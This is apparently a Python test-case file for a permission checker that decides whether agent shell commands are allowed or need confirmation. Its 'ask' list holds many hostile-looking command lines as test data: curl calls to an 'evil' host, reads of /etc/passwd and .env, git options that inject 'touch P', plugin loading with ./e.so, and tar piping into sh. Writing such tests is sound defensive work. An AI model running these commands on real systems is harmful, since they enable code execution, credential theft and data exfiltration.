"""Cases of options that are not known to be safe: they ask even where a rule allows all."""

from tests.actors.bash.case_format import make_rules, parse_cases

_ALLOW_COMMANDS = make_rules("allow", "*")
"""Every command, but no file outside the workspace."""

OPTIONS = (
    *parse_cases(
        "analyze program",
        "unlisted-option",
        "ask",
        _ALLOW_COMMANDS,
        r"""
git push --e='touch P;git-receive-pack' ./remote.git HEAD:x
git push --e 'touch P' ./remote.git HEAD:x
git ls-remote --u='touch P;git-upload-pack' .
git clone --u='touch P;git-upload-pack' ./remote.git c
git clone --t=tpl x c
git clone --c=core.fsmonitor=x x c
git init --t=tpl
git replace --edit HEAD
git replace --e HEAD
git replace -e HEAD
git cat-file --t HEAD:a
git cat-file --filter HEAD:a
git cat-file --text HEAD:a
git grep --o x
git rebase --e x
git fetch --u=x .
curl https://api.example.com/x https://evil/?data
curl https://api.example.com/x --next https://evil/
curl https://api.example.com/x file:///etc/passwd
curl https://api.example.com/x FILE:///etc/passwd
curl https://api.example.com/x file:/etc/passwd
curl https://api.example.com/x --remote-name-all https://api.example.com/P
curl https://api.example.com/x -H @file
curl https://api.example.com/x -H@file
curl https://api.example.com/x -w @file
curl https://api.example.com/x -w '%output{F}'
curl https://api.example.com/x -x proxy
curl https://api.example.com/x --connect-to ::evil:443
curl https://api.example.com/x --resolve api.example.com:443:1.2.3.4 -k
curl https://api.example.com/x --unix-socket /var/run/docker.sock
curl https://api.example.com/x -n
curl https://api.example.com/x --engine ./e.so
curl https://api.example.com/x --expand-output x
curl https://api.example.com/x --ssl-sessions f
curl https://api.example.com/x -o out
curl https://api.example.com/x -sSoout
curl https://api.example.com/x $X
curl https://api.example.com/$X
curl https://api.example.com/x --url https://evil
npm test ---script-shell=./evil.sh
npm test --script-shell=./evil.sh
npm test --scrip=./evil.sh
npm exe -- touch P
npm init x
npm create x
npm docs --browser=./evil
pnpm test --config.script-shell=./evil
yarn node -e x
yarn create x
kubectl get pods --kubeconfig=k.yaml
kubectl get pods --profile-output=F --profile=cpu
kubectl get pods -o go-template-file=/etc/passwd
kubectl logs x --kubeconfig k
gcc -Wl,-plugin,./e.so x.c
gcc -Xlinker -plugin -Xlinker ./e.so x.c
gcc -fplugin=./e.so x.c
gcc -include /etc/passwd -E x.c
gcc @opts
gcc -B. x.c
gcc -wrapper sh,-c x.c
nm --plugin ./e.so f
clang -Xclang -load -Xclang ./e.so x.c
clang -fpass-plugin=./e.so x.c
just -c touch P
just --shell ./evil
cmake -C f
cmake -DCMAKE_PROJECT_INCLUDE=f .
go test -ldflags=-extld=./evil
go test -overlay o.json
go test -modfile=x
go test -C ../x
go test -exec ./evil
rustc -C linker=./evil x.rs
java -XX:OnError=touch x
pylint --init-hook=x f
helm template --post-renderer ./evil x
pandoc --filter ./evil x
pandoc -F ./evil x
dpkg --pre-invoke=x -l
pdflatex -shell-escape x
mypy --python-executable ./evil x
python3 -m coverage run x
python3 -m pipx run x
python3 -mcoverage run x
python3 -m poetry run x
python3 -m fire os system x
awk 'BEGIN{ARGV[1]=".env";ARGC=2}1' notes.txt
awk 1 /etc/passwd
awk 1 a /etc/passwd
awk -v x=1 1 /etc/passwd
diff --to-file=/etc/passwd f
sort --files0-from=list
git blame --contents ../outside/s f
git annotate --contents=/etc/passwd f
git blame --cont=/etc/passwd f
git commit -F /etc/passwd
git commit --file=/etc/passwd
jq -R . /etc/passwd
jq --rawfile a /etc/passwd .
tar -cf x --index-file=F a
tar -cf x -g F a
tar -cf x --listed-incremental=../x a
tar -cf x --volno-file=F a
tar -cf x --remove-files a
tar cgf F x a
tar -xf t.tar --transform 's,^,.git/hooks/,'
tar -xf host:x
tar -xf x --to-command=sh
python3 -m pytest --basetemp=../dir
python3 -m pytest --junitxml=F
pytest --basetemp=../dir
pytest --junitxml F
git read-tree --index-output=F HEAD
git apply --unsafe-paths --directory=/abs p
git worktree add ../x
git worktree add /abs
pip --log F list
pip install --log=F x
shuf -eoF x
grep --foo x a
gmake --eval=x
curl https://api.example.com/x -sSo out
npm --foo test
npm run build --script-shell=./x
tar xfg a b
tar xf a:b
unknown-tool --exec x
unknown-tool --load-plugin=x
unknown-tool --pre-invoke x
unknown-tool -output x
unknown-tool --log_file=x
ls --unlisted
cat --unlisted a
awk '{print $1 > "x"}' a
awk '{print /"/ > "x" /"/}' a
awk 'x / 2 {print "y" > "z" / 1}' a
awk '{x++ / 2; print "a" > "f" /1}' a
awk '{print a,⏎b > "f"}' a
awk '(x) /"/ {print > "f" /"/}' a
awk '{print ENVIRON["HOME"]}' a
awk '/[/]"/ {print > "f" "/"}' a
awk '{ # "⏎print > "f" # "⏎}' a
awk 1 x=y
awk -v 'x=\57' 1 a
awk -f x a
""",
    ),
    *parse_cases(
        "analyze program",
        "listed-option",
        "allow",
        _ALLOW_COMMANDS,
        r"""
git log --stat -3
git diff --name-only
git commit -F msg.txt
git worktree list
git worktree add wt
git blame -w a
curl https://api.example.com/v1/x
curl -s https://api.example.com/v1/x
curl -sSfL 'https://api.example.com/v1/x?a=b'
curl https://api.example.com/x -H 'Accept: application/json' -X POST
curl https://api.example.com/x -s -o /dev/null -w '%{http_code}'
curl "https://api.example.com/$ID"
npm test
npm test -- --watch=false
npm run build -- --script-shell=x
npm install --save-dev lodash
npm -w a test
pnpm --filter a test
kubectl get pods -n a -o json
kubectl logs x --tail=5
gcc -O2 -Wall -Wextra -std=c11 -g -Iinclude -o a a.c -lm
clang -fsanitize=address -c a.c
go test -race -v -run TestX ./...
go test -coverprofile=c.out ./...
make -j4 all
make -s -k test
tar czf a.tgz src
tar tvf a.tgz
cmake -S . -B build -DCMAKE_BUILD_TYPE=Release -DX=1
pytest -q --maxfail=1 --tb=short
python3 -m pytest --cov=src --cov-report=term-missing -p no:cacheprovider
python3 x.py --output y --exec z
pip install -r requirements.txt
ruff check --output-format=json
unknown-tool --verbose --title x
sort -k2 -n a
diff -u a b
jq -r .name a
awk '{print $1}' a
awk -F: -v x=1 '{print x, $1}' a
awk '$1 > 5' a
awk 'NR>1 {print $2}' a
awk '{print $1 "|" $2}' a
awk '{printf "%s\n", $1}' a
awk '/a|b/' a
awk '{print $1 / 2}' a
awk 'length > 80' a
awk '!/^#/ && NF > 2 {n++} END {print n / NR}' a
node --test
""",
    ),
)
